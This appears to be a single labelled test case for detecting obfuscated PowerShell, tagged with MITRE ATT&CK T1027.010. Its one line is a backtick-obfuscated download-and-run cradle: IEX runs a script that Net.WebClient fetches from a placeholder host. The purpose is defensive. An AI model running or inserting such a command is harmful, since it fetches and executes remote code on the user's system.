# expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
I`E`X (N`ew-O`bject "N`et.W`ebClient")."Down`loadString"('http://files.example.invalid/stage')
